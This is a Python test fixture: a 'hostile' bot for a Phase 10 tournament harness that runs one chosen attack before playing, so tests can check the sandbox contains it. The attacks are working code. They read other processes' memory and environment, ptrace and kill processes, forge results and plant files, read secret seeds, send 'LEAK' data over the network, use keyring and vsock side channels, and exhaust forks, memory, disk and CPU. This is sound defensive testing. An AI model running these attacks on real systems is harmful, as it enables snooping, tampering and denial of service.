#!/usr/bin/env python3
"""A hostile entrant: runs one attack (argv[1]) before its hello, then plays greedy Phase 10.

Everything it manages (or fails) to do is written to stderr as lines
`HOSTILE <attack> <what> <detail>`, so a test can read the bot's log and check that
nothing leaked. Targets come from the environment the tournament gives it (an attacker
is assumed to know the host's layout): HOSTILE_RESULTS, HOSTILE_TOURNAMENT,
HOSTILE_OTHER_BOT, HOSTILE_OTHER_RESULTS, HOSTILE_HARNESS, HOSTILE_SITE, HOSTILE_PORT, HOSTILE_MARK.
Every attack is bounded in time and size.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import resource
import signal
import socket
import sys
import threading
import time

ATTACK = sys.argv[1] if len(sys.argv) > 1 else "none"
MARK = os.environ.get("HOSTILE_MARK", "nomark")
_lock = threading.Lock()


def report(what: str, detail: object = "") -> None:
    with _lock:
        sys.stderr.write(f"HOSTILE {ATTACK} {what} {detail}\n")
        sys.stderr.flush()


def visible_pids() -> list[int]:
    """Every process this one can find: /proc, and signal 0 to each pid up to 2^17."""
    found = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    try:
        pid_max = int(open("/proc/sys/kernel/pid_max").read())
    except OSError:
        pid_max = 1 << 17
    for pid in range(1, min(pid_max, 1 << 17)):
        try:
            os.kill(pid, 0)
            found.add(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            found.add(pid)
    found -= {int(t) for t in os.listdir("/proc/self/task")}  # this process and its threads
    found.discard(os.getpid())
    return sorted(found)


def cmdline(pid: int) -> str:
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError as e:
        return f"<unreadable: {e.strerror}>"


# ----- the attacks ------------------------------------------------------------------------------


def proc_snoop() -> None:
    """Read every other process's environ, cmdline and memory."""
    for pid in visible_pids():
        report("see", f"{pid} {cmdline(pid)!r}")
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            report("environ", f"{pid} {env!r}")
        except OSError as e:
            report("environ-refused", f"{pid} {e.strerror}")
        try:
            with open(f"/proc/{pid}/maps") as f:
                regions = [line.split()[0] for line in f if " rw" in line][:50]
            got = 0
            with open(f"/proc/{pid}/mem", "rb") as mem:
                for r in regions:
                    lo, hi = (int(x, 16) for x in r.split("-"))
                    try:
                        mem.seek(lo)
                        data = mem.read(min(hi - lo, 1 << 20))
                        got += len(data)
                        if b"hand" in data or b"HONEST_SECRET" in data:
                            hit = data[data.find(b"HONEST"):][:80]
                            report("mem-hit", f"{pid} {hit!r}")
                    except OSError:
                        pass
            report("mem-read", f"{pid} {got} bytes")
        except OSError as e:
            report("mem-refused", f"{pid} {e.strerror}")


def ptrace_attach() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in visible_pids():
        if pid == os.getppid():
            continue  # our own sandbox's init
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            report("attached", f"{pid} {cmdline(pid)!r}")
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        else:
            report("attach-refused", f"{pid} errno {ctypes.get_errno()}")


def killer(seconds: float = 1.5) -> None:
    """SIGSTOP and SIGKILL every process in sight, the parent included, for `seconds`."""
    end = time.monotonic() + seconds
    first = True
    while time.monotonic() < end:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            for pid in visible_pids():
                try:
                    os.kill(pid, sig)
                    if first:
                        report("signalled", f"{sig.name} {pid} {cmdline(pid)!r}")
                except OSError as e:
                    if first:
                        report("signal-refused", f"{sig.name} {pid} {e.strerror}")
            try:
                os.kill(os.getppid(), sig)
                if first:
                    report("signalled-parent", f"{sig.name} {os.getppid()}")
            except OSError as e:
                report("signal-parent-refused", f"{sig.name} {e.strerror}")
            try:
                os.kill(-1, signal.SIGCONT if sig == signal.SIGSTOP else signal.SIGCONT)
            except OSError:
                pass
        first = False
        time.sleep(0.3)


def _try_write(path: str, data: str, append: bool) -> None:
    try:
        with open(path, "a" if append else "w") as f:
            f.write(data)
        report("wrote", path)
    except OSError as e:
        report("write-refused", f"{path} {e.strerror}")


def writer() -> None:
    """Plant files and append forged lines everywhere that matters."""
    forged = f"FORGED-{MARK}\n"
    results = os.environ.get("HOSTILE_RESULTS", "")
    tournament = os.environ.get("HOSTILE_TOURNAMENT", "")
    targets = {
        "results": results,
        "tournament-folder": os.path.dirname(tournament),
        "other-bot": os.environ.get("HOSTILE_OTHER_BOT", ""),
        "harness": os.environ.get("HOSTILE_HARNESS", ""),
        "site-packages": os.environ.get("HOSTILE_SITE", ""),
    }
    for what, folder in targets.items():
        if folder:
            _try_write(os.path.join(folder, f"planted-{MARK}.py"), forged, append=False)
    for path in (os.path.join(results, "games.jsonl"), os.path.join(results, "leaderboard.json"), tournament,
                 os.path.join(targets["other-bot"], "greedy.py"),
                 os.path.join(targets["harness"], "__init__.py")):
        _try_write(path, forged, append=True)


def reader() -> None:
    """Read the tournament file (its seed decides every deal) and the other bot's source."""
    for path in (os.environ.get("HOSTILE_TOURNAMENT", ""), os.path.join(os.environ.get("HOSTILE_OTHER_BOT", ""), "greedy.py")):
        try:
            data = open(path).read()
            report("read", f"{path} {len(data)} bytes: {data[:2000]!r}")
        except OSError as e:
            report("read-refused", f"{path} {e.strerror}")
    try:
        report("listdir", f"{os.environ.get('HOSTILE_RESULTS')} {os.listdir(os.environ.get('HOSTILE_RESULTS', '/'))}")
    except OSError as e:
        report("listdir-refused", e.strerror)


_KEY_CALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl


def keyring() -> None:
    """Pass a note to the next process through the kernel keyring (keys belong to the host
    user whatever uid the sandbox shows): read the notes of earlier processes from
    /proc/keys, then add one."""
    import errno
    import platform

    try:
        notes = [line for line in open("/proc/keys") if f"p10note-{MARK}" in line]
        report("notes", notes)
    except OSError as e:
        report("notes-refused", e.strerror)
    calls = _KEY_CALLS.get(platform.machine())
    if calls is None:
        report("keyring-skipped", platform.machine())
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    add_key, keyctl = calls
    serial = libc.syscall(ctypes.c_long(add_key), b"user", f"p10note-{MARK}-{os.getpid()}".encode(), b"hand", ctypes.c_size_t(4),
                          ctypes.c_int(-4))  # KEY_SPEC_USER_KEYRING
    if serial >= 0:
        report("key-added", serial)
    else:
        report("key-refused", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()))
    got = libc.syscall(ctypes.c_long(keyctl), ctypes.c_long(0), ctypes.c_long(-4), ctypes.c_long(0))  # KEYCTL_GET_KEYRING_ID
    if got >= 0:
        report("keyctl-answered", got)
    else:
        report("keyctl-refused", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()))


def other_results() -> None:
    """Read another tournament's secret seed from a results folder inside the folder the
    bot is shown (its file mode protects nothing: the bot's files are the host user's)."""
    other = os.environ.get("HOSTILE_OTHER_RESULTS", "")
    try:
        report("listdir", f"{other} {os.listdir(other)}")
    except OSError as e:
        report("listdir-refused", e.strerror)
    try:
        report("read", open(os.path.join(other, "seed.secret")).read())
    except OSError as e:
        report("read-refused", e.strerror)


def network() -> None:
    port = int(os.environ.get("HOSTILE_PORT", "9"))
    for host, p in (("127.0.0.1", port), ("1.1.1.1", 53), ("10.0.2.2", 80)):
        try:
            s = socket.create_connection((host, p), timeout=2)
            s.sendall(f"LEAK-{MARK}".encode())
            report("connected", f"{host}:{p}")
            s.close()
        except OSError as e:
            report("connect-refused", f"{host}:{p} {e}")
    try:
        report("resolved", socket.gethostbyname("example.com"))
    except OSError as e:
        report("resolve-refused", e)


def vsock() -> None:
    """Find a port the host bound in AF_VSOCK's table, one for the whole machine (a process
    in another sandbox could bind ports that spell its hand for this one to find)."""
    import errno

    port = int(os.environ.get("HOSTILE_VSOCK_PORT", "0") or 0)
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            s = socket.socket(40, kind)  # AF_VSOCK
        except OSError as e:
            report("vsock-refused", errno.errorcode.get(e.errno, e.errno))
            continue
        report("vsock-made", kind)
        try:
            s.bind((0xFFFFFFFF, port))  # VMADDR_CID_ANY: EADDRINUSE when the host holds it
            report("vsock-bound", port)
        except OSError as e:
            report("vsock-seen" if e.errno == errno.EADDRINUSE else "vsock-bind-refused", f"{port} {e}")
        s.close()


def counters() -> None:
    """Move machine-wide counts another sandbox can read: the scheduler's autogroup number
    (every new session takes one) and TCP's count of sockets in /proc/net/sockstat, and
    hold UDP buffers that (on cgroup v1) no cgroup counts."""
    import errno

    def autogroup() -> str:
        try:
            return open("/proc/self/autogroup").read().strip()
        except OSError:
            return ""

    r, w = os.pipe()
    if os.fork() == 0:
        before = autogroup()
        for _ in range(20):
            if os.fork() == 0:
                os.setsid()
                os._exit(0)
            os.wait()
        os.setsid()
        os.write(w, f"{before}|{autogroup()}".encode())
        os._exit(0)
    os.close(w)
    os.wait()
    before, _, after = os.read(r, 400).decode().partition("|")
    report("autogroup-moved" if before != after else "autogroup-still", f"{before} -> {after}")
    for name, family, kind in (("tcp", socket.AF_INET, socket.SOCK_STREAM), ("udp", socket.AF_INET, socket.SOCK_DGRAM),
                               ("udp6", socket.AF_INET6, socket.SOCK_DGRAM)):
        try:
            socket.socket(family, kind).close()
            report("ip-made", name)
        except OSError as e:
            report("ip-refused", f"{name} {errno.errorcode.get(e.errno, e.errno)}")


def daemon() -> None:
    """A setsid double-fork daemon that tries to edit the results for two minutes."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        results = os.environ.get("HOSTILE_RESULTS", "")
        end = time.monotonic() + 120
        while time.monotonic() < end:
            try:
                with open(os.path.join(results, "games.jsonl"), "a") as f:
                    f.write(f"FORGED-{MARK}\n")
            except OSError:
                pass
            time.sleep(0.5)
        os._exit(0)
    os.waitpid(pid, 0)
    report("daemon-started", "")


def forker() -> None:
    """Try to hold 500 processes."""
    kids = []
    err = ""
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError as e:
            err = str(e)
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        kids.append(pid)
    report("forked", f"{len(kids)} {err}")
    for pid in kids:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except OSError:
            pass


def memhog() -> None:
    """Allocate 8 GiB, 1 GiB in each of 8 setsid children, 64 MiB at a time (touched)."""
    r, w = os.pipe()
    kids = []
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.setsid()
            held = []
            for _ in range(16):
                try:
                    m = mmap.mmap(-1, 64 << 20)
                    m.write(b"\1" * (64 << 20))
                    held.append(m)
                except (OSError, MemoryError, ValueError):
                    break
                os.write(w, b"x")
            time.sleep(3)
            os._exit(0)
        kids.append(pid)
    os.close(w)
    chunks = 0
    while True:
        b = os.read(r, 4096)
        if not b:
            break
        chunks += len(b)
    for pid in kids:
        try:
            _, status = os.waitpid(pid, 0)
            report("child-ended", f"{pid} status {status}")
        except OSError:
            pass
    report("allocated", f"{chunks * 64} MiB")


def cpu_raise() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
    report("limits", f"soft {soft} hard {hard}")
    for want in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (hard, hard) if hard != resource.RLIM_INFINITY else (soft, soft),
                 ((hard + 1000 if hard != resource.RLIM_INFINITY else resource.RLIM_INFINITY), resource.RLIM_INFINITY)):
        try:
            resource.setrlimit(resource.RLIMIT_CPU, want)
            now = resource.getrlimit(resource.RLIMIT_CPU)
            report("raised" if now[0] > soft or now[1] > hard else "unchanged", f"{want} -> {now}")
        except (ValueError, OSError) as e:
            report("raise-refused", f"{want} {e}")


def scratch_fill() -> None:
    """Write 2 GiB into each of the places a process might write (/tmp, HOME, the root,
    /dev, /dev/shm), in files of 48 MiB (under the file size limit), keeping all of it:
    "filled" says how much each place took, and which process it was (the bot is started
    afresh after it is ended, and runs this again)."""
    chunk = b"\0" * (16 << 20)
    process = os.urandom(4).hex()
    for k, folder in enumerate(("/tmp", os.environ.get("HOME", "/tmp"), "/", "/dev", "/dev/shm")):
        written = 0
        made = 0
        try:
            while written < (2 << 30):
                made += 1
                with open(os.path.join(folder, f"fill-{k}-{made}"), "wb", buffering=0) as f:
                    for _ in range(3):
                        written += f.write(chunk)
        except OSError as e:
            report("fill-stopped", f"{folder} {e.strerror}")
        report("filled", f"{folder} {written >> 20} MiB {process}")


def cpu_thief() -> None:
    """16 setsid children that spin for two minutes, to take the CPU the others think with."""
    for _ in range(16):
        if os.fork() == 0:
            os.setsid()
            end = time.monotonic() + 120
            while time.monotonic() < end:
                pass
            os._exit(0)
    report("spinning", "16")


ATTACKS = {f.__name__: f for f in (proc_snoop, ptrace_attach, killer, writer, reader, network, daemon, forker,
                                   memhog, cpu_raise, scratch_fill, cpu_thief, keyring, other_results,
                                   vsock, counters)}


def main() -> None:
    """Run the attack before answering hello (the killer also in a thread while it
    plays), then play."""
    attack = ATTACKS.get(ATTACK)

    def go() -> None:
        try:
            attack()
        except Exception as e:  # noqa: BLE001 - reported for the test to read
            report("error", repr(e))
        report("done", "")

    if attack is not None:
        go()
    if ATTACK == "killer":  # and on, in its turns (the only time it runs), while it plays
        threading.Thread(target=lambda: killer(3600), daemon=True).start()
    from harness.players import GreedyStrategy
    from harness.sdk import StrategyBot, run

    run(StrategyBot(GreedyStrategy(), name=f"hostile-{ATTACK}"))


if __name__ == "__main__":
    main()
